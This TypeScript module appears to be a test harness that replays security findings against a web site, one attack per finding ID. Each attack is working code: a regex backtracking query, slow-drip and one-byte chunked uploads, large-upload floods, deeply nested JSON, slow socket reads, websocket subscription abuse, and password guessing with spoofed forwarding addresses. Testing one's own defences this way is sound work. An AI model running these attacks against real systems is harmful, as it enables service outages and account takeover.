import { Agent, request } from "node:http";
import { connect } from "node:net";
import { setTimeout as wait } from "node:timers/promises";
import { WebSocket } from "ws";

/** What an outsider knows of a site. */
export type Target = { url: string; publishableKey: string };

/** One attack of docs/security.md: what an anonymous client once did to the site, again and again until it is told to stop. */
export type Attack = {
  finding: string;
  does: string;
  run: (target: Target, isOver: () => boolean) => Promise<void>;
};

/** One client; what comes from elsewhere says so. */
const attacker = "203.0.113.66";
const agent = new Agent({ keepAlive: true, maxSockets: 64 });

type Asked = {
  method?: string;
  headers?: Record<string, string>;
  body?: string;
  from?: string;
  hangUpMs?: number;
};

/** Says how it was answered, 0 when it was not; what an attacker is answered is not what is measured here. */
function ask(target: Target, path: string, asked: Asked = {}): Promise<number> {
  const { method = "GET", headers = {}, body, from = attacker, hangUpMs = 20_000 } = asked;
  return new Promise((resolve) => {
    const sent = request(
      `${target.url}${path}`,
      {
        agent,
        method,
        timeout: hangUpMs,
        headers: { "x-forwarded-for": from, "accept-encoding": "br", ...headers },
      },
      (response) => {
        response.on("error", () => resolve(0)).on("end", () => resolve(response.statusCode ?? 0));
        response.resume();
      },
    );
    sent.on("timeout", () => sent.destroy()).on("error", () => resolve(0));
    sent.end(body);
  });
}

/** Several connections, each asking as fast as it is answered; who is refused at once takes a breath, as a client would. */
async function flood(width: number, isOver: () => boolean, once: (turn: number) => Promise<number>) {
  let turn = 0;
  const work = async () => {
    while (!isOver()) if ((await once(turn++)) === 0) await wait(50);
  };
  await Promise.all(Array.from({ length: width }, work));
}

const json = (target: Target) => ({ apikey: target.publishableKey, "content-type": "application/json" });
const madeUp = () => Math.random().toString(36).slice(2);

/** The beginning of a form that adds a paper to the enquiry with this key. */
function paperHead(key: string): string {
  const field = (name: string, value: string) =>
    `--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
  return `${field("key", key)}${field("papers-follow", "yes")}--b\r\nContent-Disposition: form-data; name="papers"; filename="a.pdf"\r\n\r\n%PDF-`;
}

/** A multipart post that has begun and goes on with a byte now and then. */
function drip(target: Target, key: string, from: string): () => void {
  const socket = connect(Number(new URL(target.url).port), "127.0.0.1");
  socket.on("error", () => undefined);
  socket.write(
    `POST /lead-papers HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: ${from}\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: 9000000\r\n\r\n` +
      paperHead(key),
  );
  const clock = setInterval(() => socket.writable && socket.write("x"), 1_000);
  socket.on("close", () => clearInterval(clock));
  return () => socket.destroy();
}

async function leaveLead(target: Target, from: string): Promise<string> {
  const key = crypto.randomUUID();
  const body = new URLSearchParams({ form: "hero", contact: `+91 98480 ${from}`, key }).toString();
  const headers = { "content-type": "application/x-www-form-urlencoded", origin: target.url };
  await ask(target, "/leads", { method: "POST", body, from, headers });
  return key;
}

export const attacks: readonly Attack[] = [
  {
    finding: "V1",
    does: "regular expressions over REST, hung up on",
    run: (target, isOver) =>
      flood(16, isOver, () =>
        ask(
          target,
          "/rest/v1/footer_settings?select=id&legal_notice_text=match.%5E(.%2B)(.%2B)(.%2B)%5C1%5C2%5C3%24",
          { headers: json(target), hangUpMs: 300 },
        ),
      ),
  },
  {
    finding: "V2",
    does: "pages' data with made-up routes",
    run: (target, isOver) => flood(3, isOver, () => ask(target, `/faq.data?_routes=${madeUp()}`)),
  },
  {
    finding: "V3",
    does: "four thousand enquiries in a post",
    run: (target, isOver) => {
      const body = JSON.stringify(Array.from({ length: 4_000 }, () => ({ phone: "1" })));
      return flood(2, isOver, () =>
        ask(target, "/rest/v1/contact_leads", { method: "POST", headers: json(target), body }),
      );
    },
  },
  {
    finding: "V5",
    does: "subscriptions with filters that fail",
    run: async (target, isOver) => {
      const url = `${target.url.replace("http", "ws")}/realtime/v1/websocket?apikey=${target.publishableKey}&vsn=2.0.0`;
      const filters = Array.from({ length: 20 }, () => ({
        event: "*",
        schema: "public",
        table: "homepage_content",
        filter: `section_type=match.[${madeUp()}`,
      }));
      const sockets = Array.from({ length: 20 }, () => {
        const socket = new WebSocket(url, { headers: { "x-forwarded-for": attacker } });
        socket.on("error", () => undefined);
        socket.on("open", () =>
          socket.send(
            JSON.stringify(["1", "1", "realtime:a", "phx_join", { config: { postgres_changes: filters } }]),
          ),
        );
        return socket;
      });
      while (!isOver()) await wait(200);
      for (const socket of sockets) socket.terminate();
    },
  },
  {
    finding: "V6",
    does: "papers at a byte a second, made-up and real keys",
    run: async (target, isOver) => {
      const senders = ["203.0.113.66", "203.0.113.67", "203.0.113.68"];
      while (!isOver()) {
        const keys = await Promise.all(senders.map((from) => leaveLead(target, from)));
        const stops = senders.flatMap((from, i) =>
          [keys[i] ?? "", keys[i] ?? "", crypto.randomUUID()].map((key) => drip(target, key, from)),
        );
        for (let i = 0; i < 100 && !isOver(); i += 1) await wait(200);
        for (const stop of stops) stop();
      }
    },
  },
  {
    finding: "V7",
    does: "made-up parameters, tags and addresses",
    run: (target, isOver) =>
      flood(8, isOver, (turn) =>
        ask(target, [`/faq?tag=${madeUp()}`, `/blog?tag=${madeUp()}`, `/${madeUp()}`][turn % 3] ?? "/"),
      ),
  },
  {
    finding: "V8",
    does: "wrong passwords of the owner from six addresses",
    run: (target, isOver) =>
      flood(6, isOver, async (turn) => {
        await wait(500);
        const body = JSON.stringify({ email: "owner@example.org", password: `wrong ${turn}` });
        return ask(target, "/auth/v1/token?grant_type=password", {
          method: "POST",
          headers: json(target),
          body,
          from: `203.0.113.${70 + (turn % 6)}`,
        });
      }),
  },
  {
    finding: "V10",
    does: "ten megabytes of paper, over and over",
    run: async (target, isOver) => {
      const bytes = Buffer.alloc(10 * 1024 * 1024 - 1024, 32);
      await flood(2, isOver, async (turn) => {
        const key = await leaveLead(target, attacker);
        bytes.write(`%PDF-1.7\n${turn}\n`, 0);
        bytes.write("\n%%EOF\n", bytes.length - 8);
        const form = new FormData();
        form.set("key", key);
        form.set("papers-follow", "yes");
        form.set("papers", new File([new Uint8Array(bytes)], "a.pdf"), "a.pdf");
        const sent = fetch(`${target.url}/lead-papers`, {
          method: "POST",
          headers: { "x-forwarded-for": attacker, origin: target.url },
          body: form,
        });
        const text = await sent.then((answer) => answer.text()).catch(() => "");
        return text.includes('"kept":1') ? 200 : 0;
      });
    },
  },
  {
    finding: "B1",
    does: "papers in chunks of one byte",
    run: async (target, isOver) => {
      const crumbs = "1\r\nx\r\n".repeat(2_000);
      await flood(2, isOver, async (turn) => {
        const from = `198.51.100.${turn % 250}`;
        const key = await leaveLead(target, from);
        const head = paperHead(key);
        const socket = connect(Number(new URL(target.url).port), "127.0.0.1");
        socket.on("error", () => undefined).resume();
        socket.write(
          `POST /lead-papers HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: ${from}\r\nContent-Type: multipart/form-data; boundary=b\r\n` +
            `Transfer-Encoding: chunked\r\n\r\n${head.length.toString(16)}\r\n${head}\r\n`,
        );
        // A poor line: it is the memory that is attacked. Who sends this at full speed takes what any flood takes.
        for (let sent = 0; sent < 1_000 && socket.writable && !isOver(); sent += 1) {
          socket.write(crumbs);
          await wait(100);
        }
        socket.destroy();
        return 200;
      });
    },
  },
  {
    finding: "V14",
    does: "upgrades that are none, then many sockets",
    run: (target, isOver) =>
      flood(8, isOver, async () => {
        await wait(20);
        return ask(target, `/realtime/v1/websocket?apikey=${target.publishableKey}`, {
          headers: { connection: "Upgrade", upgrade: "websocket" },
          hangUpMs: 500,
        });
      }),
  },
  {
    finding: "V21",
    does: "addresses and bodies nobody meant",
    run: (target, isOver) => {
      const deep = `{"phone":"1","details":${"[".repeat(8_000)}${"]".repeat(8_000)}}`;
      return flood(4, isOver, (turn) =>
        turn % 2 === 0
          ? ask(target, ["//", "///", "/%00", "/te//evil.example/x"][(turn >> 1) % 4] ?? "/")
          : ask(target, "/rest/v1/contact_leads", { method: "POST", headers: json(target), body: deep }),
      );
    },
  },
  {
    finding: "V26",
    does: "large answers asked for and read a little at a time",
    run: async (target, isOver) => {
      const { hostname, port } = new URL(target.url);
      const readers = Array.from({ length: 200 }, () => {
        const socket = connect(Number(port), hostname);
        socket.on("error", () => undefined);
        socket.write(
          `GET /admin/shipped-posts.json HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: ${attacker}\r\n\r\n`.repeat(
            20,
          ),
        );
        socket.on("data", () => {
          socket.pause();
          setTimeout(() => socket.resume(), 500);
        });
        return socket;
      });
      while (!isOver()) await wait(200);
      for (const socket of readers) socket.destroy();
    },
  },
  {
    finding: "A1",
    does: "very long answers to “was this right?”, from many addresses",
    run: (target, isOver) => {
      const body = new URLSearchParams({ page: "/faq", remark: "a".repeat(60_000) }).toString();
      const headers = { "content-type": "application/x-www-form-urlencoded", origin: target.url };
      return flood(4, isOver, (turn) =>
        ask(target, "/page-answers", { method: "POST", headers, body, from: `198.51.100.${turn % 250}` }),
      );
    },
  },
  {
    finding: "A3",
    does: "searches and long addresses nobody has asked for",
    run: (target, isOver) =>
      flood(8, isOver, (turn) =>
        ask(
          target,
          turn % 2 === 0 ? `/search?q=${madeUp()}+passbook+mutation` : `/${"long-".repeat(80)}${madeUp()}`,
        ),
      ),
  },
];
